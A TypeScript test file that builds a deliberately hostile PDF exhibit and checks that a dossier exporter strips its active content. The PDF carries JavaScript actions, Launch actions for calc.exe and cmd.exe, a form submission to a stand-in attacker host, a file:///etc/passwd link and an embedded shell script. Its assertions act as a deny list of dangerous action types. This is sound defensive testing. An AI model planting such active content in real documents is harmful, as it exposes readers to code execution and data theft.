// An exhibit's active content does not reach the dossier: a crafted PDF carrying every kind of
// action and annotation a viewer could run or open (JavaScript, Launch, SubmitForm, ImportData,
// GoToR, ResetForm, Rendition, page and document additional actions, embedded files, rich media)
// is exported as an exhibit, and the dossier is read back with qpdf, object by object. Plain web
// links and links within the exhibit stay.
import { execFileSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PDFDocument, PDFName, PDFString, type PDFContext, type PDFDict, type PDFRef } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { exportDossier } from '../../src/core/dossier/export-dossier.js';
import { importCase } from '../../src/core/intake/case-file.js';
import { tempDir } from '../support/temp-dir.js';
import { newVault } from '../support/vault.js';
import { writeCaseFile } from '../support/sample-case.js';

const WEB_LINK = 'https://example.org/evidence';

/** The actions a viewer could run: one of each, each as its own link. */
function hostileActions(context: PDFContext): PDFDict[] {
  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  return [
    js('app.alert("javascript action")'),
    context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe') } }),
    context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } }),
    context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }),
    context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }),
    context.obj({ S: 'GoToE', D: [0, 'Fit'] }),
    context.obj({ S: 'ResetForm' }),
    context.obj({ S: 'Rendition', OP: 0, JS: PDFString.of('app.alert("rendition")') }),
    context.obj({ S: 'RichMediaExecute' }),
    context.obj({ S: 'Movie' }),
    context.obj({ S: 'Sound' }),
    // A web link whose address runs script is not a plain link.
    context.obj({ S: 'URI', URI: PDFString.of('javascript:app.alert("uri")') }),
    context.obj({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }),
  ];
}

/** A two-page PDF whose first page carries every kind of active content, and the two links to keep. */
async function craftedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const context = doc.context;
  const first = doc.addPage([595, 842]);
  const second = doc.addPage([595, 842]);
  first.drawText('Exhibit page one', { x: 60, y: 760, size: 14 });
  second.drawText('Exhibit page two', { x: 60, y: 760, size: 14 });
  let y = 700;
  const rect = () => {
    y -= 20;
    return [60, y, 300, y + 15];
  };
  const annot = (fields: Record<string, unknown>): PDFRef => context.register(context.obj({ Type: 'Annot', Rect: rect(), ...fields } as never));

  const embeddedFile = context.register(context.flateStream('#!/bin/sh\necho planted\n', { Type: 'EmbeddedFile' }));
  const annots: (PDFRef | PDFDict)[] = [
    // Kept: a plain web link, an internal link by action and one by destination.
    annot({ Subtype: 'Link', A: { S: 'URI', URI: PDFString.of(WEB_LINK) } }),
    annot({ Subtype: 'Link', A: { S: 'GoTo', D: [second.ref, 'Fit'] } }),
    annot({ Subtype: 'Link', Dest: [second.ref, 'Fit'] }),
    // Named destinations, as LaTeX writes links: looked up in the exhibit's names tree and its old-style /Dests.
    annot({ Subtype: 'Link', Dest: PDFString.of('chapter-2') }),
    annot({ Subtype: 'Link', A: { S: 'GoTo', D: 'old-style' } }),
    // A name the exhibit does not define leads nowhere: dropped.
    annot({ Subtype: 'Link', Dest: PDFString.of('nowhere') }),
    // A web link followed by a script in its /Next chain: the link stays, the chain goes.
    annot({
      Subtype: 'Link',
      A: { S: 'URI', URI: PDFString.of(`${WEB_LINK}#next`), Next: [context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("next")') })] },
    }),
    ...hostileActions(context).map((action) => annot({ Subtype: 'Link', A: action })),
    // Annotations that carry or play files.
    annot({ Subtype: 'FileAttachment', FS: { Type: 'Filespec', F: PDFString.of('payload.sh'), EF: { F: embeddedFile } }, Name: 'PushPin' }),
    annot({ Subtype: 'RichMedia', RichMediaContent: { Assets: { Names: [PDFString.of('a.swf'), embeddedFile] } } }),
    annot({ Subtype: 'Movie', Movie: { F: PDFString.of('movie.avi') } }),
    annot({ Subtype: 'Sound', Sound: context.register(context.flateStream('noise', { Type: 'Sound', R: 8000 })) }),
    annot({ Subtype: 'Screen', A: { S: 'Rendition', OP: 0 } }),
    annot({ Subtype: '3D' }),
    // A form widget that runs script when clicked, on focus, on a keystroke.
    annot({
      Subtype: 'Widget',
      FT: 'Tx',
      T: PDFString.of('name'),
      A: { S: 'JavaScript', JS: PDFString.of('app.alert("widget")') },
      AA: { Fo: { S: 'JavaScript', JS: PDFString.of('app.alert("focus")') }, K: { S: 'JavaScript', JS: PDFString.of('app.alert("key")') } },
    }),
  ];
  // An annotation written directly in /Annots rather than as an object of its own.
  annots.push(
    context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Btn', T: PDFString.of('direct'), Rect: rect(), AA: { D: { S: 'JavaScript', JS: PDFString.of('app.alert("direct")') } } } as never) as unknown as PDFDict,
  );
  first.node.set(PDFName.of('Annots'), context.obj(annots));
  first.node.set(PDFName.of('AA'), context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert("page open")') }, C: { S: 'Launch', F: PDFString.of('calc.exe') } }));
  // Document-level actions: never part of a copied page, checked all the same.
  doc.catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("open")') }));
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: { S: 'JavaScript', JS: PDFString.of('app.alert("close")') } }));
  doc.catalog.set(PDFName.of('Dests'), context.obj({ 'old-style': [second.ref, 'XYZ', 0, 800, 0] }));
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('init'), context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("names")') })] },
      Dests: { Kids: [context.obj({ Limits: [PDFString.of('chapter-2'), PDFString.of('chapter-2')], Names: [PDFString.of('chapter-2'), context.obj({ D: [second.ref, 'Fit'] })] })] },
      EmbeddedFiles: { Names: [PDFString.of('payload.sh'), context.obj({ Type: 'Filespec', F: PDFString.of('payload.sh'), EF: { F: embeddedFile } })] },
    }),
  );
  return doc.save({ useObjectStreams: false });
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Every dictionary in the file, as qpdf reads it (stream dictionaries included), with direct ones nested inside found too. */
function dictionariesOf(file: string): Record<string, Json>[] {
  const output = JSON.parse(execFileSync('qpdf', ['--json=2', '--json-key=qpdf', '--json-stream-data=none', file], { encoding: 'utf8', maxBuffer: 256 << 20 }));
  const objects = output.qpdf[1] as Record<string, { value?: Json; stream?: { dict: Json } }>;
  const found: Record<string, Json>[] = [];
  const visit = (value: Json): void => {
    if (Array.isArray(value)) value.forEach(visit);
    else if (value && typeof value === 'object') {
      found.push(value);
      Object.values(value).forEach(visit);
    }
  };
  for (const [key, object] of Object.entries(objects)) {
    if (key === 'trailer') continue;
    visit(object.value ?? object.stream?.dict ?? null);
  }
  return found;
}

/** qpdf's JSON writes a string as "u:text" (or "b:hex" when it is not text). */
function text(value: Json | undefined): string | undefined {
  if (typeof value !== 'string') return undefined;
  if (value.startsWith('u:')) return value.slice(2);
  if (value.startsWith('b:')) return Buffer.from(value.slice(2), 'hex').toString('latin1');
  return value;
}

describe('active content in an exhibit', () => {
  it('is stripped from every copied page, keeping plain web links and links within the exhibit', async () => {
    const crafted = await craftedPdf();
    // The crafted file carries what the test claims it does (read by qpdf, not by our writer).
    const dir = await tempDir();
    const source = path.join(dir, 'hostile.pdf');
    await writeFile(source, crafted);
    const before = dictionariesOf(source);
    expect(before.some((dict) => dict['/S'] === '/JavaScript')).toBe(true);
    expect(before.some((dict) => dict['/Subtype'] === '/FileAttachment')).toBe(true);

    const { vault } = await newVault();
    const caseFile = await writeCaseFile(dir, {
      client: { fullName: 'Active Content' },
      case: { title: 'Hostile exhibit', forum: 'un_cat', reference: 'ACT-1' },
      evidence: [{ key: 'hostile', file: 'hostile.pdf', title: 'Hostile exhibit', kind: 'court_document' }],
    });
    const report = await importCase(vault, caseFile);
    const out = path.join(dir, 'dossier.pdf');
    const result = await exportDossier(vault, report.caseId, out, { today: '2026-11-21' });
    expect(result.exhibits[0]).toMatchObject({ rendered: true, pages: 3 });
    execFileSync('qpdf', ['--check', out]);

    const dicts = dictionariesOf(out);
    const actionTypes = new Set(dicts.map((dict) => dict['/S']).filter((value) => typeof value === 'string'));
    for (const forbidden of ['/JavaScript', '/Launch', '/SubmitForm', '/ImportData', '/GoToR', '/GoToE', '/ResetForm', '/Rendition', '/RichMediaExecute', '/Movie', '/Sound']) {
      expect(actionTypes, forbidden).not.toContain(forbidden);
    }
    const subtypes = new Set(dicts.map((dict) => dict['/Subtype']));
    for (const forbidden of ['/FileAttachment', '/RichMedia', '/Movie', '/Sound', '/Screen', '/3D']) {
      expect(subtypes, forbidden).not.toContain(forbidden);
    }
    // The attached file's bytes are gone too, not merely unreachable.
    expect(dicts.filter((dict) => dict['/Type'] === '/EmbeddedFile')).toEqual([]);
    for (const key of ['/AA', '/JS', '/OpenAction', '/EF', '/EmbeddedFiles', '/JavaScript', '/RichMediaContent']) {
      expect(dicts.filter((dict) => key in dict).length, key).toBe(0);
    }
    const uris = dicts.filter((dict) => dict['/S'] === '/URI').map((dict) => text(dict['/URI']));
    expect(uris.sort()).toEqual([WEB_LINK, `${WEB_LINK}#next`]);
    // No action runs another after it (outline items have a /Next of their own: they are not actions).
    expect(dicts.some((dict) => dict['/S'] !== undefined && dict['/Next'] !== undefined)).toBe(false);

    // The exhibit's own page keeps its web links, its four internal links (to its second page)
    // and the widget's printed appearance, without the widget's actions.
    const exhibitPage = result.exhibits[0]!.firstPage; // 0-based index of the page after the separator
    const pageJson = JSON.parse(execFileSync('qpdf', ['--json=2', '--json-key=pages', '--json-key=qpdf', '--json-stream-data=none', out], { encoding: 'utf8', maxBuffer: 256 << 20 }));
    const objects = pageJson.qpdf[1] as Record<string, { value?: Record<string, Json> }>;
    const pages = pageJson.pages as { object: string }[];
    const page = objects[`obj:${pages[exhibitPage]!.object}`]!.value!;
    const annotations = (page['/Annots'] as (string | Record<string, Json>)[]).map((entry) => (typeof entry === 'string' ? objects[`obj:${entry}`]!.value! : entry));
    const secondPage = pages[exhibitPage + 1]!.object;
    expect(annotations.map((annotation) => annotation['/Subtype']).sort()).toEqual(['/Link', '/Link', '/Link', '/Link', '/Link', '/Link', '/Widget', '/Widget']);
    const internal = annotations.filter((annotation) => {
      const dest = (annotation['/Dest'] ?? (annotation['/A'] as Record<string, Json> | undefined)?.['/D']) as Json[] | undefined;
      return Array.isArray(dest) && dest[0] === secondPage;
    });
    expect(internal).toHaveLength(4);
    expect(page['/AA']).toBeUndefined();
    // No page of the exhibit was copied a second time, outside the page tree, for a link to reach.
    expect(dicts.filter((dict) => dict['/Type'] === '/Page')).toHaveLength(pages.length);
  });
});
